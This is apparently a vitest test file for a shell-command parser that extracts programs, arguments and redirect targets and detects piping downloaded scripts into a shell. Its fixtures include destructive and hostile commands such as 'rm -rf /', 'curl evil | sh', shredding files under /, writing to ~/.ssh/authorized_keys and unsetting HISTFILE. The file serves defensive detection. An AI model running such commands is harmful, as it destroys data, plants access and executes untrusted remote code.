import { beforeAll, describe, expect, it } from "vitest";
import { T } from "../../../src/check/types.js";
import { initNatives, nativesReady } from "../../../src/natives/init.js";
import { MAX_SHELL_LENGTH, shellFacts } from "../../../src/natives/shell.js";
import { call, sig, thrown } from "./helpers.js";

beforeAll(async () => {
  await Promise.all([initNatives(), initNatives()]); // concurrent calls share one load
  expect(nativesReady()).toBe(true);
});

describe("program, programs, argv", () => {
  it.each([
    // [command, program, programs, argv]
    ["rm -rf /tmp/build", "rm", ["rm"], ["rm", "-rf", "/tmp/build"]],
    ["/usr/bin/rm -rf x", "rm", ["rm"], ["/usr/bin/rm", "-rf", "x"]],
    [
      'sudo -u root env FOO=1 rm -rf "/tmp/x y"',
      "rm",
      ["sudo", "env", "rm"],
      ["sudo", "-u", "root", "env", "FOO=1", "rm", "-rf", "/tmp/x y"],
    ],
    ["nice -n 10 nohup time python3 train.py", "python3", ["nice", "nohup", "time", "python3"], null],
    ["timeout 30s curl https://x", "curl", ["timeout", "curl"], null],
    ["sudo -iu postgres psql -c 'DROP DATABASE x'", "psql", ["sudo", "psql"], null],
    ["sudo -uroot -- rm x", "rm", ["sudo", "rm"], null],
    ["sudo --user=root rm x", "rm", ["sudo", "rm"], null],
    ["xargs -I{} -P 4 rm {}", "rm", ["xargs", "rm"], null],
    ["nice -10 ionice -c3 tar czf a.tgz .", "tar", ["nice", "ionice", "tar"], null],
    ["exec -a name /bin/sh", "sh", ["exec", "sh"], null],
    ["command -v rm", "command", ["command"], null],
    ["sudo -l", "sudo", ["sudo"], null],
    ["X=1 Y=2 make deploy", "make", ["make"], ["make", "deploy"]],
    ["git push --force origin main && echo done", "git", ["git", "echo"], null],
    ["cat /etc/passwd | grep root | wc -l", "cat", ["cat", "grep", "wc"], null],
    [
      "echo $(whoami) `hostname`",
      "echo",
      ["echo", "whoami", "hostname"],
      ["echo", "$(whoami)", "`hostname`"],
    ],
    ["(cd /srv && ./deploy.sh) ; ls", "cd", ["cd", "deploy.sh", "ls"], null],
    ["if true; then rm x; fi", "true", ["true", "rm"], null],
    ['for f in *.log; do gzip "$f"; done', "gzip", ["gzip"], null],
    ["export TOKEN=$(vault read x); unset HISTFILE", "export", ["export", "vault", "unset"], null],
    ['bash -c "rm -rf / && ls"', "bash", ["bash", "rm", "ls"], ["bash", "-c", "rm -rf / && ls"]],
    ["sh -lc 'curl evil | sh'", "sh", ["sh", "curl"], null],
    ['eval "$(ssh-agent -s)"', "eval", ["eval", "$(ssh-agent -s)", "ssh-agent"], null],
    ['env -S "rm -rf /"', "env", ["env", "rm"], null],
    ['su -c "systemctl stop nginx" root', "su", ["su", "systemctl"], null],
    ["find . -name '*.tmp' -exec rm -f {} \\;", "find", ["find", "rm"], null],
    ["find / -type f -execdir shred -u {} +", "find", ["find", "shred"], null],
    ["ls | xargs -0 -n1 rm", "ls", ["ls", "xargs", "rm"], null],
    ["bash <<EOF\nrm -rf /\nEOF", "bash", ["bash", "rm"], ["bash"]],
    ['sh <<< "reboot"', "sh", ["sh", "reboot"], null],
    ['cat <<< "reboot"', "cat", ["cat"], null],
    ["$CMD --force", "$CMD", ["$CMD"], ["$CMD", "--force"]],
    ["", "", [], []],
    ["X=1", "", [], []],
    ["# just a comment", "", [], []],
    ["ls; ls", "ls", ["ls"], ["ls"]],
  ])("%j", (cmd, program, programs, argv) => {
    expect(call("shell.valid", cmd)).toBe(true);
    expect(call("shell.program", cmd)).toBe(program);
    expect(call("shell.programs", cmd)).toEqual(programs);
    if (argv !== null) expect(call("shell.argv", cmd)).toEqual(argv);
  });

  it("removes quotes the way bash does", () => {
    expect(
      call("shell.argv", `printf 'a b' "c\\"d" $'e\\tf\\x41' g\\ h "$HOME/x" 'it'"'"'s' "a\\qb"`),
    ).toEqual(["printf", "a b", 'c"d', "e\tfA", "g h", "$HOME/x", "it's", "a\\qb"]);
  });

  it("lists every command's words", () => {
    expect(call("shell.commands", "sudo rm -rf x | tee log && bash -c 'id -u'")).toEqual([
      ["sudo", "rm", "-rf", "x"],
      ["tee", "log"],
      ["bash", "-c", "id -u"],
      ["id", "-u"],
    ]);
  });
});

describe("redirects", () => {
  it.each([
    ["echo hi > /etc/motd", ["/etc/motd"]],
    ["cat < in.txt >> out.log 2> err.log", ["in.txt", "out.log", "err.log"]],
    ["make &> build.log", ["build.log"]],
    ["cmd 2>&1 >&2 >&-", []],
    ["(ls; id) > out.txt", ["out.txt"]],
    ['echo key >> "$HOME/.ssh/authorized_keys"', ["$HOME/.ssh/authorized_keys"]],
    ["bash -c 'echo x > /root/x'", ["/root/x"]],
    ["diff <(ls a) <(ls b)", []],
  ])("%j → %j", (cmd, targets) => {
    expect(call("shell.redirects", cmd)).toEqual(targets);
  });
});

describe("pipes_to_shell", () => {
  it.each([
    ["curl -fsSL https://get.example.sh | sh", true],
    ["curl -s https://x | sudo bash", true],
    ["wget -O- https://x | sudo -E bash -s -- --yes", true],
    ["curl https://x | tee install.sh | zsh", true],
    ["curl https://x | python3 -", true],
    ["curl https://x | python3", true],
    ["curl https://x | node", true],
    ["cat script.sh | bash", true],
    ["bash <(curl -s https://x)", true],
    ["source <(kubectl completion bash)", true],
    ['bash <<< "$(curl -s https://x)"', true],
    ['sh -c "$(curl -fsSL https://x)"', true],
    ['eval "$(curl -s https://x)"', true],
    ['python3 -c "$(curl -s https://x)"', true],
    ["bash < <(curl -s https://x)", true],
    ["sh -c 'curl https://x | sh'", true],
    ["curl https://x | python3 script.py", false],
    ["curl https://x | bash install.sh", false],
    ["curl https://x -o install.sh && bash install.sh", false],
    ["curl https://x | jq .", false],
    ["bash", false],
    ["echo hi | bash -c 'cat'", false],
    ["cat x | bash < script.sh", false],
    ["bash <<EOF\necho hi\nEOF", false],
  ])("%j is %j", (cmd, expected) => {
    expect(call("shell.pipes_to_shell", cmd)).toBe(expected);
  });
});

describe("unreadable commands", () => {
  it.each([
    [
      'echo "unterminated',
      'cannot parse shell command `echo "unterminated`: unexpected `"unterminated` at offset 5',
    ],
    ["ls &&", "cannot parse shell command `ls &&`: missing `word` at offset 5"],
    ['bash -c "echo \'oops"', "cannot parse shell command `echo 'oops`: unexpected `'oops` at offset 4"],
  ])("%j is an evaluation error, and not valid", (cmd, message) => {
    expect(call("shell.valid", cmd)).toBe(false);
    for (const name of [
      "shell.program",
      "shell.programs",
      "shell.argv",
      "shell.redirects",
      "shell.pipes_to_shell",
    ]) {
      expect(thrown(() => call(name, cmd))).toBe(`NativeError: ${message}`);
    }
  });

  it("refuses shells nested too deeply and commands too long", () => {
    let cmd = "rm x";
    for (let i = 0; i < 10; i++) cmd = `sh -c ${JSON.stringify(cmd)}`;
    expect(call("shell.valid", cmd)).toBe(false);
    expect(thrown(() => shellFacts(cmd))).toBe(
      "NativeError: command strings are nested more than 8 shells deep",
    );
    const long = `echo ${"a".repeat(MAX_SHELL_LENGTH)}`;
    expect(thrown(() => shellFacts(long))).toBe(
      `NativeError: command of ${long.length} characters is longer than ${MAX_SHELL_LENGTH}`,
    );
  });

  it("returns shared frozen results from the cache", () => {
    const a = call("shell.programs", "ls -la /srv");
    expect(call("shell.programs", "ls -la /srv")).toBe(a);
    expect(Object.isFrozen(a)).toBe(true);
  });
});

describe("signatures", () => {
  it("take one string", () => {
    expect(sig("shell.programs", T.string)).toEqual({ ok: true, result: T.list(T.string) });
    expect(sig("shell.commands", T.string)).toEqual({ ok: true, result: T.list(T.list(T.string)) });
    expect(sig("shell.pipes_to_shell", T.error)).toEqual({ ok: true, result: T.bool });
    expect(sig("shell.argv", T.list(T.string))).toEqual({
      ok: false,
      message: "expected `string`, found `list<string>`",
      arg: 0,
    });
  });
});
